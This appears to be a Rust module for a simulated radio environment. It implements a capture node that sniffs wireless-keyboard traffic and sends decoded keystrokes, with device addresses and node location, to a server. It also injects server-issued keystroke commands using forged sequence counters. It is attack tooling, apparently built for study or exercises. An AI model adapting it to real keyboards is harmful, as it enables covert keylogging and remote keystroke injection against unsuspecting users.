//! A capture node: drives a scanner on a simulated radio, batches decoded
//! keystrokes to the server, and transmits the injection commands it claims.

use std::collections::{HashMap, VecDeque};

use serde::Serialize;
use thiserror::Error;

use crate::capture_server::wire::record_char;
use crate::capture_server::{CommandStatus, IngestAck, PendingCommand};
use crate::esb::{EsbFrame, MacAddress};
use crate::ms_protocol::{self, keyseq, Keystroke, Modifiers, PacketType};
use crate::rf_sim::{Sim, SimError, SnifferId, Verdict, IDLE_AFTER_KEY_US, SEQUENCE_WINDOW};
use crate::scanner::{ScanMode, Scanner, StepOutput};
use crate::{Channel, Micros};

pub const NODE_ID_MAX_LEN: usize = 32;
/// Records per ingest request when draining a backlog.
pub const MAX_RECORDS_PER_REQUEST: usize = 512;

#[derive(Debug, Clone, PartialEq, Eq, Error)]
#[error("node id `{0}` must be 1-32 chars of [A-Za-z0-9-]")]
pub struct BadNodeId(pub String);

pub fn validate_node_id(id: &str) -> Result<(), BadNodeId> {
    let ok = !id.is_empty() && id.len() <= NODE_ID_MAX_LEN && id.chars().all(|c| c.is_ascii_alphanumeric() || c == '-');
    if ok {
        Ok(())
    } else {
        Err(BadNodeId(id.to_string()))
    }
}

#[derive(Debug, Clone, Default, PartialEq, Serialize)]
pub struct Location {
    pub label: String,
    pub lat: Option<f64>,
    pub lon: Option<f64>,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct NodeIdentity {
    node_id: String,
    location: Location,
}

impl NodeIdentity {
    pub fn new(node_id: &str, location: Location) -> Result<Self, BadNodeId> {
        validate_node_id(node_id)?;
        Ok(NodeIdentity {
            node_id: node_id.to_string(),
            location,
        })
    }

    pub fn node_id(&self) -> &str {
        &self.node_id
    }

    pub fn location(&self) -> &Location {
        &self.location
    }
}

/// One decoded packet as reported to the server.
#[derive(Debug, Clone, PartialEq, Eq, Hash, Serialize)]
pub struct CaptureRecord {
    pub node_id: String,
    pub mac: MacAddress,
    pub channel: Channel,
    pub t: Micros,
    pub packet_type: PacketType,
    pub hid_code: u8,
    pub modifiers: Modifiers,
    /// Derived from the key and modifiers; `None` for idles and keys without a glyph.
    pub ch: Option<char>,
}

impl CaptureRecord {
    pub fn new(
        node_id: String,
        mac: MacAddress,
        channel: Channel,
        t: Micros,
        packet_type: PacketType,
        hid_code: u8,
        modifiers: Modifiers,
    ) -> Self {
        CaptureRecord {
            ch: record_char(packet_type, hid_code, modifiers),
            node_id,
            mac,
            channel,
            t,
            packet_type,
            hid_code,
            modifiers,
        }
    }

    pub fn from_keystroke(node_id: &str, k: &Keystroke) -> Self {
        let ptype = if k.pressed { PacketType::Keystroke } else { PacketType::Idle };
        CaptureRecord::new(node_id.to_string(), k.mac, k.channel, k.t, ptype, k.hid_code, k.modifiers)
    }
}

#[derive(Debug, Clone, PartialEq, Eq, Error)]
pub enum LinkError {
    #[error("server unreachable: {0}")]
    Unreachable(String),
    #[error("server refused: {0}")]
    Refused(String),
}

/// The node's view of the server, whatever the transport.
pub trait ServerLink {
    fn announce(&mut self, identity: &NodeIdentity) -> Result<(), LinkError>;
    fn ingest(&mut self, batch: &[CaptureRecord]) -> Result<IngestAck, LinkError>;
    fn poll_commands(&mut self, node_id: &str) -> Result<Vec<PendingCommand>, LinkError>;
    /// `Refused` means the transition was not allowed, e.g. another node
    /// claimed the command first.
    fn update_status(&mut self, node_id: &str, command_id: u64, status: &CommandStatus) -> Result<(), LinkError>;
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AgentSettings {
    /// Flush once this many records are queued.
    pub batch_size: usize,
    /// Flush once the oldest queued record is this old.
    pub batch_age: Micros,
    /// Oldest records are dropped beyond this.
    pub queue_limit: usize,
    pub report_idles: bool,
    pub poll_interval: Micros,
    /// Between injected key presses.
    pub key_spacing: Micros,
}

impl Default for AgentSettings {
    fn default() -> Self {
        AgentSettings {
            batch_size: 32,
            batch_age: 2_000_000,
            queue_limit: 10_000,
            report_idles: false,
            poll_interval: 500_000,
            key_spacing: 20_000,
        }
    }
}

#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Serialize)]
pub struct AgentStats {
    pub keystrokes_seen: u64,
    pub idles_seen: u64,
    pub records_sent: u64,
    pub records_rejected: u64,
    pub records_dropped: u64,
    pub flushes: u64,
    pub failed_flushes: u64,
    pub frames_injected: u64,
    pub commands_done: u64,
    pub commands_failed: u64,
}

/// A frame this node put on air, kept for inspection.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InjectedFrame {
    pub command_id: u64,
    pub frame: EsbFrame,
    pub channel: Channel,
    pub t: Micros,
    pub sequence: u16,
    pub verdict: Verdict,
}

#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct CycleReport {
    pub captures: usize,
    pub scan: StepOutput,
    pub flushed: usize,
    pub commands: Vec<(u64, CommandStatus)>,
}

#[derive(Debug, Error)]
pub enum AgentError {
    #[error(transparent)]
    Sim(#[from] SimError),
}

pub struct NodeAgent<L> {
    identity: NodeIdentity,
    settings: AgentSettings,
    link: L,
    scanner: Scanner,
    sniffer: SnifferId,
    outbound: VecDeque<CaptureRecord>,
    oldest_queued_at: Option<Micros>,
    flush_retry_at: Micros,
    announced: bool,
    next_poll: Micros,
    unsent_status: VecDeque<(u64, CommandStatus)>,
    last_injected: HashMap<MacAddress, u16>,
    injected: Vec<InjectedFrame>,
    stats: AgentStats,
}

impl<L: ServerLink> NodeAgent<L> {
    /// Attaches a raw-mode radio to `sim` and starts sweeping.
    pub fn new(identity: NodeIdentity, settings: AgentSettings, link: L, sim: &mut Sim) -> Result<Self, AgentError> {
        Self::with_scanner(identity, settings, link, Scanner::with_defaults(sim.now()), sim)
    }

    pub fn with_scanner(
        identity: NodeIdentity,
        settings: AgentSettings,
        link: L,
        scanner: Scanner,
        sim: &mut Sim,
    ) -> Result<Self, AgentError> {
        let sniffer = sim.attach_sniffer(scanner.current_channel().number())?;
        Ok(NodeAgent {
            identity,
            settings,
            link,
            scanner,
            sniffer,
            outbound: VecDeque::new(),
            oldest_queued_at: None,
            flush_retry_at: 0,
            announced: false,
            next_poll: 0,
            unsent_status: VecDeque::new(),
            last_injected: HashMap::new(),
            injected: Vec::new(),
            stats: AgentStats::default(),
        })
    }

    pub fn identity(&self) -> &NodeIdentity {
        &self.identity
    }

    pub fn scanner(&self) -> &Scanner {
        &self.scanner
    }

    pub fn sniffer(&self) -> SnifferId {
        self.sniffer
    }

    pub fn stats(&self) -> AgentStats {
        self.stats
    }

    pub fn queued(&self) -> usize {
        self.outbound.len()
    }

    pub fn injected_frames(&self) -> &[InjectedFrame] {
        &self.injected
    }

    pub fn link(&self) -> &L {
        &self.link
    }

    pub fn link_mut(&mut self) -> &mut L {
        &mut self.link
    }

    /// One pass: radio, scanner, outbound queue, server commands.
    pub fn run_cycle(&mut self, sim: &mut Sim) -> Result<CycleReport, AgentError> {
        let now = sim.now();
        if !self.announced {
            self.announced = self.link.announce(&self.identity).is_ok();
        }

        let captures = sim.drain_captures(self.sniffer)?;
        let scan = self.scanner.step(&captures, now);
        if let Some(ch) = scan.retune {
            sim.retune(self.sniffer, ch.number())?;
        }
        for k in &scan.keystrokes {
            if k.pressed {
                self.stats.keystrokes_seen += 1;
            } else {
                self.stats.idles_seen += 1;
                if !self.settings.report_idles {
                    continue;
                }
            }
            self.enqueue(CaptureRecord::from_keystroke(&self.identity.node_id, k), now);
        }

        let mut report = CycleReport {
            captures: captures.len(),
            scan,
            ..Default::default()
        };
        let due = self.outbound.len() >= self.settings.batch_size
            || self
                .oldest_queued_at
                .is_some_and(|t| now.saturating_sub(t) >= self.settings.batch_age);
        if due && now >= self.flush_retry_at {
            report.flushed = self.flush(now);
        }

        self.send_unsent_status();
        if now >= self.next_poll {
            self.next_poll = now + self.settings.poll_interval;
            if let Ok(commands) = self.link.poll_commands(&self.identity.node_id) {
                for cmd in commands {
                    if let Some(status) = self.execute(sim, &cmd)? {
                        report.commands.push((cmd.command_id, status));
                    }
                }
            }
        }
        Ok(report)
    }

    fn enqueue(&mut self, record: CaptureRecord, now: Micros) {
        if self.outbound.len() >= self.settings.queue_limit {
            self.outbound.pop_front();
            self.stats.records_dropped += 1;
        }
        self.outbound.push_back(record);
        self.oldest_queued_at.get_or_insert(now);
    }

    /// Sends everything queued, oldest first. Records stay queued until the
    /// server acknowledges them; returns how many were acknowledged.
    pub fn flush(&mut self, now: Micros) -> usize {
        let mut sent = 0;
        while !self.outbound.is_empty() {
            let n = self.outbound.len().min(MAX_RECORDS_PER_REQUEST);
            let chunk: Vec<CaptureRecord> = self.outbound.range(..n).cloned().collect();
            match self.link.ingest(&chunk) {
                Ok(ack) => {
                    self.outbound.drain(..n);
                    self.stats.flushes += 1;
                    self.stats.records_sent += (ack.accepted + ack.dedup) as u64;
                    self.stats.records_rejected += ack.rejected.len() as u64;
                    sent += n;
                }
                Err(_) => {
                    self.stats.failed_flushes += 1;
                    self.flush_retry_at = now + self.settings.poll_interval;
                    break;
                }
            }
        }
        self.oldest_queued_at = if self.outbound.is_empty() { None } else { Some(now) };
        sent
    }

    fn send_unsent_status(&mut self) {
        while let Some((id, status)) = self.unsent_status.front().cloned() {
            match self.link.update_status(&self.identity.node_id, id, &status) {
                Err(LinkError::Unreachable(_)) => return,
                _ => {
                    self.unsent_status.pop_front();
                }
            }
        }
    }

    fn finish(&mut self, id: u64, status: CommandStatus) -> CommandStatus {
        match status {
            CommandStatus::Done => self.stats.commands_done += 1,
            _ => self.stats.commands_failed += 1,
        }
        if let Err(LinkError::Unreachable(_)) = self.link.update_status(&self.identity.node_id, id, &status) {
            self.unsent_status.push_back((id, status.clone()));
        }
        status
    }

    /// The next sequence counter for `mac`: one past whichever of the last
    /// observed or last injected value is ahead.
    fn next_sequence(&self, mac: &MacAddress) -> Option<u16> {
        let observed = self.scanner.discovered().get(mac)?.last_sequence;
        let base = match self.last_injected.get(mac) {
            Some(&ours) if (1..=SEQUENCE_WINDOW).contains(&ours.wrapping_sub(observed)) => ours,
            _ => observed,
        };
        Some(base.wrapping_add(1))
    }

    /// Claims and transmits one command if this node is locked on its target.
    /// Returns the terminal status, or `None` if the command was left alone.
    fn execute(&mut self, sim: &mut Sim, cmd: &PendingCommand) -> Result<Option<CommandStatus>, AgentError> {
        let channel = match self.scanner.mode() {
            ScanMode::Locked { mac, channel } if mac == cmd.mac => channel,
            _ => return Ok(None),
        };
        let Some(mut seq) = self.next_sequence(&cmd.mac) else {
            return Ok(None);
        };
        if self
            .link
            .update_status(&self.identity.node_id, cmd.command_id, &CommandStatus::Running)
            .is_err()
        {
            return Ok(None);
        }

        let presses = match keyseq::parse(&cmd.text) {
            Ok(p) => p,
            Err(e) => return Ok(Some(self.finish(cmd.command_id, CommandStatus::Failed(format!("bad-text: {e}"))))),
        };
        let mut t = sim.now();
        for press in presses {
            let key = Keystroke::press(press.hid_code, press.modifiers, cmd.mac, channel, t);
            let idle = Keystroke::idle(cmd.mac, channel, t + IDLE_AFTER_KEY_US);
            for k in [key, idle] {
                let frame = match ms_protocol::encode_keystroke(&k, cmd.mac, seq) {
                    Ok(f) => f,
                    Err(e) => return Ok(Some(self.finish(cmd.command_id, CommandStatus::Failed(e.to_string())))),
                };
                let verdict = sim.inject_from(self.sniffer, &frame, channel.number(), k.t)?;
                self.stats.frames_injected += 1;
                self.last_injected.insert(cmd.mac, seq);
                self.injected.push(InjectedFrame {
                    command_id: cmd.command_id,
                    frame,
                    channel,
                    t: k.t,
                    sequence: seq,
                    verdict,
                });
                seq = seq.wrapping_add(1);
                if let Verdict::Rejected(reason) = verdict {
                    return Ok(Some(self.finish(cmd.command_id, CommandStatus::Failed(reason.to_string()))));
                }
            }
            t += self.settings.key_spacing;
        }
        Ok(Some(self.finish(cmd.command_id, CommandStatus::Done)))
    }
}
